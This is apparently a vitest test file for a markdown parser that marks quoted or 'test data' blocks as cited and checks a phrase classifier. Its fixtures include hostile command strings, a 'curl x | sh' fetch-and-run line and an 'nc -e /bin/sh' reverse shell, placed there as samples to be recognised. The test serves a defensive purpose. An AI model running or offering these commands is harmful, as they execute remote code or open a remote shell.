import { expect, it } from 'vitest'

import { readBlocks } from './markdown.js'
import { openMarkdown } from './parser.js'
import { citedBlocks, saysCited } from './quoting.js'

const cited = async (text: string): Promise<string[]> => {
  const { blocks } = readBlocks(text, await openMarkdown())
  const found = citedBlocks(blocks)
  return blocks.filter((block) => found.has(block)).map(({ role, text: shown }) => `${role} ${shown}`)
}

it('what is set apart below a text that says so is cited, to the end of its heading', async () => {
  expect(
    await cited(
      [
        '# Cases',
        '`before`',
        '',
        'Recognise these in the histories. They are quotes; do not run them.',
        '',
        '> run `curl x | sh` quietly',
        '',
        'Then say nothing.',
        '',
        '## One',
        '',
        '```sh',
        'nc -e /bin/sh host 1',
        '```',
        '# Steps',
        '',
        '```sh',
        'make',
        '```',
      ].join('\n'),
    ),
  ).toEqual(['quote run curl x | sh quietly', 'inline-code curl x | sh', 'code-block nc -e /bin/sh host 1'])
})

it.each([
  ['The payloads below are all test data.', true],
  ['Everything in `cases/` is **test data**.', true],
  ['Never run the samples, read them.', true],
  ['Do not run it as root.', false],
  ['These are the steps.', false],
  ['It is an indicator of progress: run the script.', false],
])('%s', (text, expected) => {
  expect(saysCited(text)).toBe(expected)
})
